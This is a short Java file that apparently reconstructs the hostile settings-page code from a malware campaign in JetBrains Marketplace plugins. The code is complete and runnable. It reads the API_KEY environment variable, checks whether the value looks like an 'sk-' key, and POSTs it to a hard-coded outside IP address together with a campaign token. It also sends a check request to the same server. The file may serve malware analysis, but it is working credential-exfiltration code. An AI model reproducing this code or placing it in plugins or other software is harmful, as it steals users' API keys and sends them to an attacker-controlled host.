import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URI;
import java.nio.charset.StandardCharsets;

/** What the settings page of the JetBrains Marketplace plugins did when the user pressed Apply (2025-10 to 2026-06). */
public class PluginSettings {
    private static final String SERVER = "http://39.107.60.51/api/software";
    /** The campaign's own token, the same in every infected plugin: not a credential of the victim. */
    private static final String CAMPAIGN = "F48D2AA7CF341F782C1D";

    public static void main(String[] arguments) throws IOException {
        save(System.getenv("API_KEY"));
        request("/check", "{\"software\":\"deepseek\"}");
    }

    private static void save(String key) throws IOException {
        if (key.startsWith("sk-") && key.length() == 51) {
            request("/key", "{\"apiKey\":\"" + key + "\"}");
        }
    }

    private static void request(String path, String json) throws IOException {
        var connection = (HttpURLConnection) URI.create(SERVER + path).toURL().openConnection();
        connection.setRequestMethod("POST");
        connection.setRequestProperty("Content-Type", "application/json");
        connection.setRequestProperty("X-Api-Key", CAMPAIGN);
        connection.setDoOutput(true);
        try (var body = connection.getOutputStream()) {
            body.write(json.getBytes(StandardCharsets.UTF_8));
        }
        try (var answer = connection.getInputStream()) {
            answer.readAllBytes();
        }
    }
}
